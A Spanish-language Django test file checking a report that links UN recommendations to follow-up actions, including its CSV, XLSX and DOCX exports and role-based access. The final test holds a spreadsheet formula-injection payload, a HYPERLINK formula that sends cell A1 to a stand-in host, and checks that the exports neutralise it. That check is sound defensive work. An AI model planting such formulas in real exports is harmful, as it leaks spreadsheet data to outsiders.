"""La matriz de seguimiento: el selector, la orden en tres formatos y la página por rol."""

import csv
import datetime as dt
import io

import docx
import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.core.management import CommandError, call_command

from informes.seguimiento.matriz import matriz_seguimiento
from programa.models import PerfilUsuario
from programa.roles import CONSULTA, ENLACE
from tests import factories as f

pytestmark = pytest.mark.django_db
PAGINA = "/informes/seguimiento/"
SLP = "Plática “Delitos cibernéticos”, el 18 de marzo de 2015 en el Estado de San Luis Potosí."
OAX = "Taller “Cuidado digital”, en el último semestre de 2015 en el Estado de Oaxaca."


@pytest.fixture
def escenario():
    tema = f.TemaFactory(nombre="Explotación sexual")
    crc = f.DocumentoOnuFactory(simbolo="PRUEBA/CRC/9", mecanismo="comite_derechos_nino")
    atendida = f.RecomendacionFactory(
        documento=crc, parrafo="42", texto="Texto de prueba A.", temas=[tema]
    )
    sola = f.RecomendacionFactory(documento=crc, parrafo="9", texto="Texto de prueba B.")
    slp = f.ActividadFactory(
        tipo="platica",
        titulo="Delitos cibernéticos",
        estado="realizada",
        fecha_inicio=dt.date(2015, 3, 18),
        entidades=["24"],
    )
    f.ActividadInstitucionFactory(
        actividad=slp, institucion=f.InstitucionFactory(nombre="Policía Federal", siglas="PF")
    )
    oax = f.ActividadFactory(
        tipo="taller",
        titulo="Cuidado digital",
        estado="realizada",
        precision="semestre",
        fecha_inicio=dt.date(2015, 7, 1),
        fecha_fin=dt.date(2015, 12, 31),
        entidades=["20"],
    )
    fuera = f.ActividadFactory(
        estado="realizada", fecha_inicio=dt.date(2016, 2, 1), entidades=["24"]
    )
    programada = f.ActividadFactory(
        estado="programada", fecha_inicio=dt.date(2015, 9, 1), entidades=["24"]
    )
    convenio = f.ConvenioFactory(
        folio="CONV-2015", titulo="Convenio de prueba", fecha_firma=dt.date(2015, 6, 1)
    )
    f.ParteConvenioFactory(
        convenio=convenio, institucion=f.InstitucionFactory(nombre="Fundación X", siglas="FX")
    )
    for accion in (slp, oax, fuera, programada, convenio):
        accion.recomendaciones.add(atendida)
    return {"atendida": atendida, "sola": sola}


def _filas(**kwargs):
    matriz = matriz_seguimiento(desde=dt.date(2015, 1, 1), hasta=dt.date(2015, 12, 31), **kwargs)
    return {f.referencia: f for f in matriz.filas}


def test_cada_recomendacion_con_las_acciones_del_periodo_redactadas(escenario):
    filas = _filas()
    atendida = filas["PRUEBA/CRC/9 párr. 42"]
    assert [a.texto for a in atendida.acciones] == [
        SLP,
        "Convenio CONV-2015 “Convenio de prueba”, firmado entre FX el 1 de junio de 2015.",
        OAX,
    ]
    assert atendida.temas == ["Explotación sexual"]
    assert atendida.mecanismo == "Comité de los Derechos del Niño"
    assert atendida.instituciones == ["FX", "PF"]
    assert atendida.estado == "Sin confirmar (propuesto: en proceso)"
    sola = filas["PRUEBA/CRC/9 párr. 9"]
    assert sola.acciones == []
    assert sola.valores()[-1] == "Sin acciones registradas en el periodo."
    assert sola.estado == "Sin confirmar (propuesto: sin avances)"


def test_el_estado_confirmado_manda_sobre_lo_propuesto(escenario, admin_user):
    f.SeguimientoFactory(
        recomendacion=escenario["sola"],
        anio=2015,
        estado_propuesto="sin_avances",
        estado="cumplida",
        confirmado_por=admin_user,
        confirmado_en=dt.datetime(2016, 1, 5, tzinfo=dt.UTC),
    )
    assert _filas()["PRUEBA/CRC/9 párr. 9"].estado == "Cumplida"


def test_la_orden_escribe_csv_xlsx_y_docx(escenario, tmp_path, capsys):
    call_command("matriz_seguimiento", "--desde", "2015-01-01", "--hasta", "2015-12-31")
    renglones = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["parrafo"] for r in renglones] == ["42", "9"]  # primero las que tienen tema
    assert renglones[0]["acciones"].split("\n")[0] == SLP
    assert renglones[1]["acciones"] == "Sin acciones registradas en el periodo."

    xlsx = tmp_path / "matriz.xlsx"
    call_command(
        "matriz_seguimiento", "--desde", "2015-01-01", "--hasta", "2015-12-31",
        "--formato", "xlsx", "--salida", str(xlsx),
    )  # fmt: skip
    hoja = openpyxl.load_workbook(xlsx)["Matriz de seguimiento"]
    encabezado, primera, segunda = hoja.iter_rows(values_only=True)
    assert encabezado[3:6] == ("Párrafo", "Recomendación", "Estado")
    assert primera[2:4] == ("PRUEBA/CRC/9", "42")
    assert primera[7].split("\n")[-1] == OAX
    assert segunda[7] == "Sin acciones registradas en el periodo."

    docx_ruta = tmp_path / "matriz.docx"
    call_command(
        "matriz_seguimiento", "--desde", "2015-01-01", "--hasta", "2015-12-31",
        "--formato", "docx", "--salida", str(docx_ruta),
    )  # fmt: skip
    documento = docx.Document(docx_ruta)
    assert documento.paragraphs[0].text == "Matriz de seguimiento de recomendaciones, 2015"
    (tabla,) = documento.tables
    assert [c.text for c in tabla.rows[0].cells][:4] == [
        "Tema",
        "Mecanismo",
        "Documento",
        "Párrafo",
    ]
    assert tabla.rows[1].cells[7].paragraphs[0].text == SLP
    assert tabla.rows[2].cells[7].text == "Sin acciones registradas en el periodo."


def test_la_orden_rechaza_fechas_malas():
    with pytest.raises(CommandError, match="--hasta «2015-13-01» no es una fecha válida"):
        call_command("matriz_seguimiento", "--desde", "2015-01-01", "--hasta", "2015-13-01")


def _persona(client, rol, entidades=None):
    usuario = User.objects.create_user(rol, password="x" * 12, is_staff=True)
    usuario.groups.add(Group.objects.get(name=rol))
    if entidades:
        PerfilUsuario.objects.create(usuario=usuario).entidades.set(entidades)
    client.force_login(usuario)
    return usuario


def test_la_pagina_muestra_la_matriz_y_sus_descargas(admin_client, escenario):
    pagina = admin_client.get(PAGINA, {"desde": "2015-01-01", "hasta": "2015-12-31"})
    contenido = pagina.content.decode()
    assert pagina.status_code == 200
    assert "Matriz de seguimiento de recomendaciones, 2015" in contenido
    assert SLP in contenido and OAX in contenido and "CONV-2015" in contenido
    assert "Sin acciones registradas en el periodo." in contenido
    assert 'href="/informes/seguimiento.docx?desde=2015-01-01&amp;hasta=2015-12-31"' in contenido
    assert 'href="/informes/seguimiento/" aria-current="page"' in contenido  # en el menú


def test_un_enlace_estatal_ve_solo_las_acciones_de_sus_entidades(client, escenario):
    _persona(client, ENLACE, entidades=["24"])
    contenido = client.get(PAGINA, {"desde": "2015-01-01", "hasta": "2015-12-31"}).content
    contenido = contenido.decode()
    assert SLP in contenido
    assert OAX not in contenido and "CONV-2015" not in contenido and "FX" not in contenido
    assert "solo las acciones de sus entidades" in contenido

    descarga = client.get(
        "/informes/seguimiento.csv", {"desde": "2015-01-01", "hasta": "2015-12-31"}
    )
    texto = descarga.content.decode("utf-8-sig")
    assert SLP in texto and OAX not in texto and "CONV-2015" not in texto


@pytest.mark.parametrize(("rol", "esperado"), [(CONSULTA, 200), (ENLACE, 200)])
def test_quien_ve_actividades_abre_la_pagina(client, escenario, rol, esperado):
    _persona(client, rol, entidades=["24"] if rol == ENLACE else None)
    assert client.get(PAGINA).status_code == esperado


def test_sin_sesion_lleva_al_inicio_de_sesion(client):
    assert client.get(PAGINA).status_code == 302
    assert client.get("/informes/seguimiento.csv").status_code == 302


def test_fechas_malas_en_la_pagina_dicen_que_esta_mal(admin_client):
    pagina = admin_client.get(PAGINA, {"desde": "2015-12-31", "hasta": "2015-01-01"})
    assert pagina.status_code == 400
    assert "La fecha «Hasta» (01/01/2015) es anterior a «Desde» (31/12/2015)." in (
        pagina.content.decode()
    )
    assert admin_client.get("/informes/seguimiento.pdf").status_code == 404


def test_la_pagina_cuesta_las_mismas_consultas_con_3_o_30_recomendaciones(
    admin_client, django_assert_num_queries
):
    admin_client.get(PAGINA)
    hechas = 0
    for n in (3, 30):
        for _ in range((n - hechas) // 3):
            recomendacion = f.RecomendacionFactory(temas=[f.TemaFactory()])
            actividad = f.ActividadFactory(
                estado="realizada", fecha_inicio=dt.date(2015, 3, 1), entidades=["24", "20"]
            )
            f.ActividadInstitucionFactory(actividad=actividad)
            actividad.recomendaciones.add(recomendacion)
            producto = f.ProductoFactory(fecha=dt.date(2015, 4, 1))
            producto.entidades_difusion.set(["24"])
            producto.recomendaciones.add(recomendacion)
            convenio = f.ConvenioFactory(fecha_firma=dt.date(2015, 5, 1))
            f.ParteConvenioFactory(convenio=convenio)
            convenio.recomendaciones.add(recomendacion)
            f.RecomendacionFactory()  # sin acciones
            f.SeguimientoFactory(
                recomendacion=f.RecomendacionFactory(),
                estado="sin_avances",
                confirmado_en=dt.datetime(2016, 1, 1, tzinfo=dt.UTC),
            )
        # Sesión y usuario (2); recomendaciones con su documento y sus temas (2); seguimiento
        # confirmado del año (1); la propuesta del año: actividades, productos y convenios
        # ligados (3); actividades ligadas del periodo, su vínculo, entidades e instituciones
        # (4); productos, su vínculo y entidades (3); convenios, su vínculo y partes (3). La
        # sesión ya se renovó en la primera petición.
        with django_assert_num_queries(18):
            pagina = admin_client.get(PAGINA, {"desde": "2015-01-01", "hasta": "2015-12-31"})
        assert pagina.content.decode().count("<tr>") == n + 1  # y el encabezado
        hechas = n


def test_un_texto_que_parece_formula_llega_como_texto_al_csv_y_al_xlsx(admin_client):
    # Un texto importado de una hoja ajena: abierto en Excel, no debe ejecutarse ni ser vínculo.
    formula = '=HYPERLINK("http://ejemplo.invalid/?x="&A1,"Ver")'
    f.RecomendacionFactory(
        documento=f.DocumentoOnuFactory(simbolo="PRUEBA/CRC/9"), parrafo="1", texto=formula
    )
    periodo = {"desde": "2015-01-01", "hasta": "2015-12-31"}

    csv_bytes = admin_client.get("/informes/seguimiento.csv", periodo).content
    (renglon,) = csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig")))
    assert renglon["texto"] == "'" + formula

    xlsx = admin_client.get("/informes/seguimiento.xlsx", periodo).content
    hoja = openpyxl.load_workbook(io.BytesIO(xlsx))["Matriz de seguimiento"]
    celda = hoja.cell(row=2, column=5)
    assert celda.data_type == "s"
    assert celda.value == formula
